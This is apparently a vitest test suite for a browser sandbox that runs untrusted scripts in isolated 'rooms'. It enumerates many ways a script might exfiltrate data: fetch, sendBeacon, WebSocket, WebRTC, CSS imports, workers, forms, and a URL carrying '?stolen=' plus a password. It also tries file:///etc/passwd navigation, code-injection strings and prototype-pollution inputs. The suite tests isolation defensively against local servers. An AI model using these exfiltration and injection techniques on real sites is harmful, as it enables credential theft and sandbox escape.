import { createSocket } from 'node:dgram'
import type { AddressInfo } from 'node:net'
import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest'
import type { RoomRefusal } from '../../main/core/browser/room-refusals.ts'
import { type Loopback, startLoopback } from '../support/loopback.ts'
import { startTestBrowser, type TestBrowser } from '../support/test-browser.ts'
import { facts, openTestRoom, type TestRoom } from '../support/test-room.ts'

let bank: Loopback
let other: Loopback
let browser: TestBrowser
let room: TestRoom

beforeAll(async () => {
  other = await startLoopback({ '/': 'other', '/m.js': 'export default 1' })
  bank = await startLoopback({ '/': '<title>bank</title>' })
  browser = await startTestBrowser([bank.url])
  await browser.page.goto(`${bank.url}/`)
})
afterEach(() => room?.close())
afterAll(async () => {
  await browser?.close()
  await Promise.all([bank?.close(), other?.close()])
})

/** Runs code in a fresh room; no server, neither the bank's nor another, may see anything of it. */
async function attempt(code: string): Promise<unknown> {
  const before = bank.connections()
  room = await openTestRoom(browser)
  const result = await room.run(code, facts, 10_000)
  // What leaves by itself needs a moment; a second script in the same room is that moment.
  await room.run('return [await new Promise((done) => setTimeout(done, 300))]', facts, 10_000)
  expect(other.asked).toEqual([])
  expect(other.connections()).toBe(0)
  expect(bank.connections()).toBe(before)
  return result.kind === 'list' ? result.value : result
}

/** Ways that tell whether they succeeded. */
const answering: Record<string, string> = {
  fetch: `await fetch(url, { mode: 'no-cors' })`,
  'keepalive fetch': `await fetch(url, { mode: 'no-cors', keepalive: true })`,
  XMLHttpRequest: `await new Promise((good, bad) => { const r = new XMLHttpRequest(); r.onload = good; r.onerror = bad; r.open('GET', url); r.send() })`,
  WebSocket: `await new Promise((good, bad) => { const s = new WebSocket(url.replace('http', 'ws')); s.onopen = good; s.onerror = bad })`,
  EventSource: `await new Promise((good, bad) => { const s = new EventSource(url); s.onopen = good; s.onerror = bad })`,
  import: `await import(url)`,
  picture: `await new Promise((good, bad) => { const i = new Image(); i.onload = good; i.onerror = bad; i.src = url })`,
  script: `await new Promise((good, bad) => { const s = document.createElement('script'); s.onload = good; s.onerror = bad; s.src = url; document.documentElement.append(s) })`,
  video: `await new Promise((good, bad) => { const s = document.createElement('video'); s.onloadeddata = good; s.onerror = bad; s.src = url; document.documentElement.append(s) })`,
  font: `await new FontFace('f', 'url(' + url + ')').load()`,
  'service worker': `await navigator.serviceWorker.register(url)`,
  'paint worklet': `await CSS.paintWorklet.addModule(url)`,
  'audio worklet': `await new OfflineAudioContext(1, 1, 44100).audioWorklet.addModule(url)`,
  WebTransport: `await new WebTransport(url.replace('http:', 'https:')).ready`,
  'a window': `if (open(url) === null) throw 'refused'`,
}

/** Ways that go off without an answer. */
const silent: Record<string, string> = {
  sendBeacon: `navigator.sendBeacon(url, 'x')`,
  frame: `const f = document.createElement('iframe'); f.src = url; document.documentElement.append(f)`,
  'written frame': `const f = document.createElement('iframe'); f.srcdoc = '<img src="' + url + '">'; document.documentElement.append(f)`,
  object: `const o = document.createElement('object'); o.data = url; document.documentElement.append(o)`,
  form: `const f = document.createElement('form'); f.action = url; f.method = 'post'; f.target = '_blank'; document.documentElement.append(f); f.submit()`,
  link: `const a = document.createElement('a'); a.href = url; a.target = '_blank'; a.ping = url; document.documentElement.append(a); a.click()`,
  hints: `for (const rel of ['prefetch', 'preload', 'modulepreload', 'preconnect', 'dns-prefetch', 'stylesheet', 'manifest', 'icon', 'prerender']) { const l = document.createElement('link'); l.rel = rel; l.as = 'script'; l.href = url; document.head.append(l) }`,
  style: `const s = document.createElement('style'); s.textContent = '@import url(' + url + '); html { background: url(' + url + ') }'; document.head.append(s)`,
  speculation: `const s = document.createElement('script'); s.type = 'speculationrules'; s.textContent = JSON.stringify({ prefetch: [{ source: 'list', urls: [url] }] }); document.head.append(s)`,
  worker: `new Worker(URL.createObjectURL(new Blob(['fetch("' + url + '", { mode: "no-cors" })'])))`,
  'shared worker': `new SharedWorker(URL.createObjectURL(new Blob(['fetch("' + url + '", { mode: "no-cors" })'])))`,
  'policy by meta': `const m = document.createElement('meta'); m.httpEquiv = 'Content-Security-Policy'; m.content = "default-src *; report-uri " + url; document.head.append(m)`,
}

const targets = () => [
  `${other.url}/`,
  `${bank.url}/`,
  'https://example.com/',
  `http://localhost:${other.url.split(':')[2]}/`,
]

describe('a hostile script cannot reach the network', () => {
  it('though the same attempts reach it from a page that may', async () => {
    const seen = await startLoopback({ '/': 'seen' })
    const open = await startTestBrowser([seen.url])
    await open.page.goto(seen.url)
    const ways = [...Object.entries(answering), ...Object.entries(silent)]
    await open.page.evaluate(`(async () => {
      ${ways.map(([name, code]) => `Promise.resolve(${JSON.stringify(`${seen.url}/${encodeURIComponent(name)}`)}).then(async (url) => { ${code} }).catch(() => 0)`).join('\n')}
    })()`)
    const names = [
      'fetch',
      'keepalive fetch',
      'XMLHttpRequest',
      'EventSource',
      'import',
      'picture',
      'script',
      'sendBeacon',
      'frame',
      'written frame',
      'link',
      'style',
    ]
    await expect.poll(() => names.filter((name) => !seen.asked.includes(`/${encodeURIComponent(name)}`))).toEqual([])
    await open.close()
    await seen.close()
  })

  it('by anything that would tell it so', async () => {
    const ways = Object.entries(answering)
    const refused = await attempt(`
      const ways = { ${ways.map(([name, code]) => `${JSON.stringify(name)}: async (url) => { ${code} }`).join(',\n')} }
      const reached = []
      for (const url of ${JSON.stringify(targets())})
        await Promise.all(Object.entries(ways).map(([name, way]) =>
          Promise.race([way(url + encodeURIComponent(name)), new Promise((_, late) => setTimeout(late, 1500))]).then(() => reached.push(name + ' ' + url), () => 0)))
      return reached`)
    expect(refused).toEqual([])
  })

  it('by anything that goes off in silence', async () => {
    const done = (await attempt(`
      const done = []
      for (const url of ${JSON.stringify(targets())}) {
        ${Object.entries(silent)
          .map(
            ([name, code]) =>
              `try { await (async (url) => { ${code} })(url + ${JSON.stringify(encodeURIComponent(name))}); } catch {} done.push(${JSON.stringify(name)})`,
          )
          .join('\n')}
      }
      await new Promise((r) => setTimeout(r, 500))
      return done`)) as string[]
    // They were really tried.
    expect(new Set(done)).toEqual(new Set(Object.keys(silent)))
  })

  it('and each way that the browser refuses is told, without what it would have carried', async () => {
    const told: RoomRefusal[] = []
    room = await openTestRoom(browser, { onRefused: (refusal) => told.push(refusal) })
    const ways = [...Object.values(answering), ...Object.values(silent)]
    await room.run(
      `const url = '${other.url}/?stolen=' + context.password
       for (const way of [${ways.map((code) => `async (url) => { ${code} }`).join(',')}]) { try { way(url).catch(() => 0) } catch {} }
       await import('node:fs').catch(() => 0)
       await new Promise((done) => setTimeout(done, 800)); return []`,
      facts,
      10_000,
    )
    const found = () => [...new Set(told.map(({ way, target }) => `${way} ${target}`))]
    await expect
      .poll(found)
      .toEqual(
        expect.arrayContaining([
          ...['connect-src', 'img-src', 'media-src', 'font-src', 'frame-src', 'style-src-elem', 'window', 'form'].map(
            (way) => `${way} ${other.host}`,
          ),
          'script-src-elem node',
        ]),
      )
    expect(JSON.stringify(told)).not.toContain(facts.password)
  })

  it('by WebRTC', async () => {
    const socket = createSocket('udp4')
    let packets = 0
    socket.on('message', () => {
      packets += 1
    })
    await new Promise<void>((resolve) => socket.bind(0, '127.0.0.1', resolve))
    await attempt(`const c = new RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1:${(socket.address() as AddressInfo).port}' }, { urls: 'turn:${other.host}?transport=tcp', username: 'a', credential: 'b' }] })
      c.createDataChannel('x'); await c.setLocalDescription(await c.createOffer())
      await new Promise((r) => setTimeout(r, 1500)); return []`)
    expect(packets).toBe(0)
    socket.close()
  })
})

describe('a hostile script cannot leave its room', () => {
  it.each([
    ['another address', `location.href = 'https://example.com/'`],
    ['a blank page', `location.href = 'about:blank'`],
    ['a data page', `location.href = 'data:text/html,<script>fetch(1)</script>'`],
    ['a reload', 'location.reload()'],
    ['a file', `location.href = 'file:///etc/passwd'`],
    ['the settings of the browser', `location.href = 'chrome://settings'`],
    ['a script address', `location.href = 'javascript:document.write(1)'`],
    [
      'a download',
      `const a = document.createElement('a'); a.href = 'https://example.com/'; a.download = 'x'; document.documentElement.append(a); a.click()`,
    ],
    [
      'a form',
      `const f = document.createElement('form'); f.action = 'https://example.com/'; document.documentElement.append(f); f.submit()`,
    ],
    ['a written document', `document.open(); document.write('<script>parent.x = 1</script>'); document.close()`],
  ])('by going to %s', async (_, code) => {
    const before = bank.connections()
    room = await openTestRoom(browser)
    const outcome = await room
      .run(`${code}; await new Promise((done) => setTimeout(done, 700)); return [location.protocol]`, facts, 8000)
      .catch((error: Error) => error.message)
    // Either nothing happened, or the room was closed with the script.
    if (typeof outcome === 'string') expect(outcome).toMatch(/left its room|closed|navigation/i)
    else expect(outcome).toEqual({ kind: 'list', value: ['https:'] })
    expect(other.connections()).toBe(0)
    expect(bank.connections()).toBe(before)
    expect(await browser.page.title()).toBe('bank')
  })

  it('has no Node, no files, no other pages, no storage and no clipboard', async () => {
    expect(
      await attempt(`
        const tries = {
          process: () => typeof process, require: () => typeof require, module: () => typeof module, node: () => typeof Buffer,
          playwright: () => Object.keys(globalThis).filter((key) => /playwright|__pw|room_/i.test(key)).join(),
          opener: () => String(window.opener) + String(window.parent === window), origin: () => origin,
          storage: () => localStorage.length, session: () => sessionStorage.length, cookie: () => document.cookie,
          database: () => indexedDB.open('x').constructor.name, channel: () => new BroadcastChannel('x').name,
          files: () => typeof showOpenFilePicker === 'function' && 'asks',
        }
        const answers = {}
        for (const [name, work] of Object.entries(tries)) { try { answers[name] = work() } catch (error) { answers[name] = error.name } }
        answers.import = await import('node:fs').then(() => 'loaded', () => 'refused')
        answers.clipboard = await navigator.clipboard.readText().then(() => 'read', () => 'refused')
        answers.geolocation = await new Promise((done) => navigator.geolocation.getCurrentPosition(() => done('found'), () => done('refused')))
        answers.picker = await Promise.resolve().then(() => showOpenFilePicker()).then(() => 'opened', () => 'refused')
        return [answers]`),
    ).toEqual([
      {
        process: 'undefined',
        require: 'undefined',
        module: 'undefined',
        node: 'undefined',
        playwright: '',
        opener: 'nulltrue',
        origin: 'null',
        storage: 'SecurityError',
        session: 'SecurityError',
        cookie: 'SecurityError',
        database: expect.stringMatching(/SecurityError|IDBOpenDBRequest/),
        channel: expect.any(String),
        files: expect.anything(),
        import: 'refused',
        clipboard: 'refused',
        geolocation: 'refused',
        picker: 'refused',
      },
    ])
  })

  it('cannot see the profile: what the bank page stored is not there', async () => {
    await browser.page.evaluate(`document.cookie = 'session=secret'; localStorage.setItem('a', 'b')`)
    expect(await attempt(`let c = ''; try { c = document.cookie } catch {} return [c]`)).toEqual([''])
  })

  it('cannot disturb the host by wrong calls', async () => {
    const hostile = [
      `page.goto()`,
      `page.goto({})`,
      `page.goto('file:///etc/passwd')`,
      `page.goto('chrome://version')`,
      `page.click('#x'.repeat(2000))`,
      `page.rows('tr', JSON.parse('{"__proto__":"a","constructor":"b"}'), { timeout: 100 })`,
      `page.waitFor([], { timeout: 100 })`,
      `page.sleep(1e9, 'long')`,
      `page.sleep(-1, 'short')`,
      `page.fill('a', 'b', { timeout: Infinity })`,
      `page.fill('a', 'b', JSON.parse('{"__proto__":{"timeout":1}}'))`,
      `page.evaluate('process.exit(1)')`,
      `page.evaluate('}); process.exit(1); ({')`,
      `page.evaluate('(async () => { for await (const x of 1) {} })')`,
      `page.evaluate(() => ({ toJSON() { throw 1 } }))`,
      `page.attribute('a', 'b'.repeat(1000))`,
      `page.text('internal:control=component')`,
      `page.text('>>'.repeat(50))`,
      `page.text('xpath=//[')`,
    ]
    const answers = (await attempt(`
      const answers = []
      for (const work of [${hostile.map((code) => `() => ${code}`).join(',')}]) answers.push(await Promise.resolve().then(work).then(() => 'done', (error) => error.message))
      return answers`)) as string[]
    expect(answers).toHaveLength(hostile.length)
    expect(answers.filter((answer) => answer !== 'done').length).toBeGreaterThanOrEqual(hostile.length - 4)
    expect(await browser.page.title()).toBe('bank')
  })

  it('gains nothing by changing built-ins or sending noise through a frame', async () => {
    expect(
      await attempt(`
        JSON.stringify = () => 'noise'; JSON.parse = () => ({}); Promise.prototype.then = Promise.prototype.then
        Array.prototype.toJSON = function () { return 'noise' }; Object.prototype.ok = true; Map.prototype.get = () => undefined
        return [1]`).catch((error: Error) => error.message),
    ).toBeDefined()
    room = await openTestRoom(browser)
    const noise = `const f = document.createElement('iframe'); document.documentElement.append(f)
      const found = Object.getOwnPropertyNames(f.contentWindow).filter((name) => name.startsWith('room_'))
      for (const name of found) for (const text of ['', 'null', '[]', '{', '{"id":1}', '{"id":1,"action":"__proto__","args":[]}', '{"id":-1,"action":"goto","args":["file:///"]}', JSON.stringify({ id: 7, action: 'x'.repeat(200), args: [] }), 'x'.repeat(6e6)]) f.contentWindow[name](text)
      return [found.length, await page.now()]`
    expect(await room.run(noise, facts, 8000)).toEqual({
      kind: 'list',
      value: [expect.any(Number), '2026-05-12T10:00:00.000Z'],
    })
  })

  it('is only one script: rooms do not see each other', async () => {
    const first = await openTestRoom(browser)
    await first.run(`globalThis.secret = 'mine'; return []`, facts, 8000)
    expect(await attempt('return [typeof secret]')).toEqual(['undefined'])
    await first.close()
  })
})
